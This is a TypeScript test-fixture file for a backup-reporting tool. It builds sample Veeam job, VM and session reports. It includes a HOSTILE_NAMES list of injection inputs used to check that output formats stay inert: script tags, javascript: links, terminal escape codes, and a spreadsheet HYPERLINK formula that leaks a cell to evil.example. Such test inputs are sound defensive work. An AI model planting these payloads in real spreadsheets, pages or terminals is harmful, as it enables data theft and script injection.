import type { JobReport, SessionReport, VmReport } from '../src/report.js';
import { groupsOf } from '../src/report-groups.js';

/** A job that ran once, successfully, an hour before the report; override what a test needs. */
export function jobReport(overrides: Partial<JobReport> = {}): JobReport {
  return {
    jobUid: 'urn:veeam:Job:00000000-0000-0000-0000-000000000001',
    jobName: 'Job',
    jobType: 'Backup',
    backupServer: 'vbr01',
    source: null,
    health: 'ok',
    reasons: [],
    runs: 1,
    attempts: 1,
    successfulRuns: 1,
    warningRuns: 0,
    failedRuns: 0,
    runsWithoutOutcome: 0,
    successRate: 1,
    lastResult: 'Success',
    lastRunAt: '2025-09-24T07:00:00.000Z',
    lastSuccessAt: '2025-09-24T07:00:00.000Z',
    lastSuccessAgeSeconds: 3600,
    rpoSeconds: 86_400,
    rpoBreached: false,
    consecutiveFailures: 0,
    running: null,
    durations: { p50Seconds: 600, p95Seconds: 600, maxSeconds: 600, samples: 1 },
    slowerThanUsual: false,
    failureReasons: [],
    ...overrides,
  };
}

/** A VM whose last backup succeeded an hour before the report; override what a test needs. */
export function vmReport(overrides: Partial<VmReport> = {}): VmReport {
  return {
    vmName: 'vm01',
    jobName: 'Job',
    jobUid: 'urn:veeam:Job:00000000-0000-0000-0000-000000000001',
    source: null,
    health: 'ok',
    lastResult: 'Success',
    lastRunAt: '2025-09-24T07:00:00.000Z',
    lastSuccessAt: '2025-09-24T07:00:00.000Z',
    lastSuccessAgeSeconds: 3600,
    rpoSeconds: 86_400,
    rpoBreached: false,
    failureReasons: [],
    ...overrides,
  };
}

const days = ['17', '18', '19', '20', '21', '22', '23'].map((day) => ({
  date: `2025-09-${day}`,
  successfulRuns: 0,
  warningRuns: 0,
  failedRuns: 0,
}));

/**
 * A week in Europe/Berlin with nothing in it, reported at 2025-09-24 10:00 local time; the base
 * of every fixture report.
 */
export function sessionReport(overrides: Partial<SessionReport> = {}): SessionReport {
  return {
    schemaVersion: 1,
    generatedAt: '2025-09-24T08:00:00.000Z',
    window: {
      from: '2025-09-16T22:00:00.000Z',
      to: '2025-09-23T22:00:00.000Z',
      timeZone: 'Europe/Berlin',
    },
    policy: 'strict',
    defaultRpoSeconds: 86_400,
    empty: true,
    totals: {
      jobs: 0,
      runs: 0,
      attempts: 0,
      successfulRuns: 0,
      warningRuns: 0,
      failedRuns: 0,
      runningRuns: 0,
      runsWithoutOutcome: 0,
      successRate: null,
      jobsBreachingRpo: 0,
      missedJobsBreachingRpo: 0,
      vmsBreachingRpo: 0,
    },
    jobs: [],
    vms: [],
    days,
    missedJobs: [],
    failedSources: [],
    groups: [],
    ...overrides,
  };
}

/** A small fixed report with a bit of everything: three jobs, two VMs, a missed job, a failed EM. */
export function smallReport(): SessionReport {
  return sessionReport({
    empty: false,
    totals: {
      jobs: 3,
      runs: 24,
      attempts: 26,
      successfulRuns: 17,
      warningRuns: 1,
      failedRuns: 6,
      runningRuns: 1,
      runsWithoutOutcome: 0,
      successRate: 17 / 24,
      jobsBreachingRpo: 1,
      missedJobsBreachingRpo: 0,
      vmsBreachingRpo: 1,
    },
    jobs: [
      jobReport({
        jobUid: 'urn:veeam:Job:00000000-0000-0000-0000-000000000002',
        jobName: 'Nightly SQL',
        health: 'critical',
        reasons: ['2 failed runs in a row', 'no success for 2d 4h (RPO 1d)'],
        runs: 14,
        attempts: 16,
        successfulRuns: 8,
        failedRuns: 6,
        successRate: 8 / 14,
        lastResult: 'Failed',
        lastRunAt: '2025-09-23T20:00:00.000Z',
        lastSuccessAt: '2025-09-22T04:00:00.000Z',
        lastSuccessAgeSeconds: 187_200,
        rpoBreached: true,
        consecutiveFailures: 2,
        running: { since: '2025-09-24T04:40:00.000Z', elapsedSeconds: 12_000 },
        durations: { p50Seconds: 1800, p95Seconds: 5400, maxSeconds: 7200, samples: 13 },
        slowerThanUsual: true,
      }),
      jobReport({
        jobUid: 'urn:veeam:Job:00000000-0000-0000-0000-000000000003',
        jobName: 'File server',
        health: 'warning',
        reasons: ['last run ended with a warning'],
        runs: 7,
        attempts: 7,
        successfulRuns: 6,
        warningRuns: 1,
        successRate: 6 / 7,
        lastResult: 'Warning',
        lastRunAt: '2025-09-23T23:40:00.000Z',
        lastSuccessAt: '2025-09-22T23:40:00.000Z',
        lastSuccessAgeSeconds: 30_000,
        durations: { p50Seconds: 2400, p95Seconds: 3000, maxSeconds: 3100, samples: 7 },
      }),
      jobReport({
        jobUid: 'urn:veeam:Job:00000000-0000-0000-0000-000000000004',
        jobName: 'Replica DC',
        jobType: 'Replica',
        backupServer: null,
        runs: 3,
        attempts: 3,
        successfulRuns: 3,
        successRate: 1,
        durations: null,
      }),
    ],
    vms: [
      vmReport({
        vmName: 'sql01',
        jobName: 'Nightly SQL',
        jobUid: 'urn:veeam:Job:00000000-0000-0000-0000-000000000002',
        health: 'critical',
        lastResult: 'Failed',
        lastRunAt: '2025-09-23T20:00:00.000Z',
        lastSuccessAt: '2025-09-22T04:00:00.000Z',
        lastSuccessAgeSeconds: 187_200,
        rpoBreached: true,
        failureReasons: [
          {
            normalized: 'Failed to create VM snapshot on host <host>',
            example: 'Failed to create VM snapshot on host esx01',
            count: 4,
          },
          { normalized: 'Timed out after <n> s', example: 'Timed out after 900 s', count: 2 },
        ],
      }),
      vmReport({
        vmName: 'sql02',
        jobName: 'Nightly SQL',
        jobUid: 'urn:veeam:Job:00000000-0000-0000-0000-000000000002',
        failureReasons: [
          {
            normalized: 'Timed out after <n> s',
            example: 'Timed out after 600 s',
            count: 3,
          },
        ],
      }),
    ],
    days: days.map((day, index) => ({
      ...day,
      successfulRuns: index + 1,
      failedRuns: index % 3 === 0 ? 2 : 0,
    })),
    missedJobs: [
      {
        jobUid: 'urn:veeam:Job:00000000-0000-0000-0000-000000000005',
        jobName: 'Weekly archive',
        jobType: 'Backup',
        scheduleEnabled: false,
        backupServer: null,
        source: null,
        lastSuccessAt: '2025-09-14T02:00:00.000Z',
        lastSuccessAgeSeconds: 885_600,
        rpoSeconds: 86_400,
        rpoBreached: true,
      },
    ],
    failedSources: [{ name: 'em2.example.com', error: 'connect ECONNREFUSED 10.0.0.2:9398' }],
  });
}

/**
 * `smallReport` grouped both ways, as a merge of reports grouped differently is; the figures are
 * worked out by hand from its three jobs (vbr01 runs the two backup jobs, 14 of their 21 runs
 * succeeded, 6 failed; the replica job's server is not named, its group keyed null, last).
 */
export function groupedReport(): SessionReport {
  return {
    ...smallReport(),
    groups: [
      {
        by: 'jobType',
        key: 'Backup',
        source: null,
        jobs: 2,
        runs: 21,
        failedRuns: 6,
        successRate: 14 / 21,
        jobsBreachingRpo: 1,
      },
      {
        by: 'jobType',
        key: 'Replica',
        source: null,
        jobs: 1,
        runs: 3,
        failedRuns: 0,
        successRate: 1,
        jobsBreachingRpo: 0,
      },
      {
        by: 'backupServer',
        key: 'vbr01',
        source: null,
        jobs: 2,
        runs: 21,
        failedRuns: 6,
        successRate: 14 / 21,
        jobsBreachingRpo: 1,
      },
      {
        by: 'backupServer',
        key: null,
        source: null,
        jobs: 1,
        runs: 3,
        failedRuns: 0,
        successRate: 1,
        jobsBreachingRpo: 0,
      },
    ],
  };
}

/**
 * `groupedReport` whose backup servers are the missing one (key null) and servers named like its
 * label: `(no server)`, the same in quotes, and one with a zero-width space and padding, which
 * reads as the first. Each has a count of jobs of its own, to tell the rows apart.
 */
export function labelLikeServersReport(): SessionReport {
  const report = groupedReport();
  const keys = [null, '(no server)', '"(no server)"', ' (no server)\u200B'];
  return {
    ...report,
    groups: [
      ...report.groups.filter((group) => group.by === 'jobType'),
      ...keys.map((key, index) => ({
        by: 'backupServer' as const,
        key,
        source: null,
        jobs: index + 1,
        runs: 3,
        failedRuns: 0,
        successRate: 1,
        jobsBreachingRpo: 0,
      })),
    ],
  };
}

/** Names a hostile or careless server could send; every format must keep them inert. */
export const HOSTILE_NAMES: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '[click](javascript:alert(1))',
  '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
  '+SUM(1,2)',
  '-2+3',
  '@cmd',
  '\t=1+1',
  'a | b || c',
  'first line\nsecond line',
  'cr\r\nlf\rend',
  'quote " and \\" backslash \\',
  'comma, separated, "values"',
  '`code` *bold* _em_ ~~strike~~ \\*',
  'colour \u001b[31mred\u001b[0m \u001b]8;;http://evil\u0007link',
  'bidi \u202Eevil\u202C',
  'x'.repeat(200),
  '備份作業 夜間 データベース サーバー 백업 작업 備份作業 夜間 データベース サーバー 백업',
  '🔥💾 backup 👨‍👩‍👧‍👦 🇩🇪 ✅ 1️⃣ e\u0301',
];

/**
 * A report in which every server-provided string is one of `HOSTILE_NAMES`, grouped both ways:
 * each name is a backup server and a job type, a group of one job each.
 */
export function hostileReport(): SessionReport {
  const name = (index: number): string => HOSTILE_NAMES[index % HOSTILE_NAMES.length] ?? '';
  const jobs = HOSTILE_NAMES.map((jobName, index) =>
    jobReport({
      jobUid: `urn:veeam:Job:${index}`,
      jobName,
      jobType: name(index + 1),
      backupServer: name(index + 2),
      source: name(index + 3),
      health: 'critical',
      reasons: [name(index + 4)],
      lastResult: 'Failed',
      rpoBreached: true,
      running: { since: '2025-09-24T07:00:00.000Z', elapsedSeconds: 1_000_000 },
      slowerThanUsual: true,
    }),
  );
  const vms = HOSTILE_NAMES.map((vmName, index) =>
    vmReport({
      vmName,
      jobName: name(index + 1),
      rpoBreached: true,
      failureReasons: [{ normalized: name(index + 2), example: name(index + 3), count: index + 1 }],
    }),
  );
  return sessionReport({
    empty: false,
    totals: { ...sessionReport().totals, jobs: jobs.length, runs: jobs.length },
    jobs,
    vms,
    missedJobs: HOSTILE_NAMES.map((jobName, index) => ({
      jobUid: `urn:veeam:Job:missed-${index}`,
      jobName,
      jobType: name(index + 1),
      scheduleEnabled: true,
      backupServer: null,
      source: null,
      lastSuccessAt: null,
      lastSuccessAgeSeconds: null,
      rpoSeconds: 86_400,
      rpoBreached: true,
    })),
    failedSources: HOSTILE_NAMES.map((sourceName, index) => ({
      name: sourceName,
      error: name(index + 1),
    })),
    groups: [...groupsOf(jobs, 'backupServer', 'strict'), ...groupsOf(jobs, 'jobType', 'strict')],
  });
}

/** A report merged from two EMs, each with a job of the same name, and a missed job on one. */
export function twoSourceReport(): SessionReport {
  const base = smallReport();
  return {
    ...base,
    jobs: [
      jobReport({ jobUid: 'urn:veeam:Job:1', jobName: 'Linux Servers Backup', source: 'hq' }),
      jobReport({ jobUid: 'urn:veeam:Job:2', jobName: 'Linux Servers Backup', source: 'branch' }),
    ],
    missedJobs: [
      {
        jobUid: 'urn:veeam:Job:3',
        jobName: 'Weekly archive',
        jobType: 'Backup',
        scheduleEnabled: true,
        backupServer: null,
        source: 'branch',
        lastSuccessAt: '2025-09-23T02:00:00.000Z',
        lastSuccessAgeSeconds: 108_000,
        rpoSeconds: 172_800,
        rpoBreached: false,
      },
    ],
    failedSources: [],
    vms: [],
  };
}

/**
 * One EM whose two backup servers each have a job named `Daily`, each with a VM breaching its RPO,
 * and a job list that has a third `Daily`, with no server known, that did not run.
 */
export function sameNameReport(): SessionReport {
  const base = smallReport();
  const first = 'urn:veeam:Job:aaaaaaaa-0000-0000-0000-000000000001';
  const second = 'urn:veeam:Job:bbbbbbbb-0000-0000-0000-000000000002';
  const breaching = { rpoBreached: true, lastSuccessAgeSeconds: 200_000 } as const;
  return {
    ...base,
    jobs: [
      jobReport({ jobUid: first, jobName: 'Daily', backupServer: 'vbr01' }),
      jobReport({ jobUid: second, jobName: 'Daily', backupServer: 'vbr02' }),
      jobReport({ jobUid: 'urn:veeam:Job:1', jobName: 'Weekly' }),
    ],
    missedJobs: [
      {
        jobUid: 'urn:veeam:Job:cccccccc-0000-0000-0000-000000000003',
        jobName: 'Daily',
        jobType: 'Backup',
        scheduleEnabled: true,
        backupServer: null,
        source: null,
        lastSuccessAt: null,
        lastSuccessAgeSeconds: null,
        rpoSeconds: 86_400,
        rpoBreached: true,
      },
    ],
    failedSources: [],
    vms: [
      vmReport({ vmName: 'db01', jobName: 'Daily', jobUid: first, ...breaching }),
      vmReport({ vmName: 'db01', jobName: 'Daily', jobUid: second, ...breaching }),
    ],
  };
}
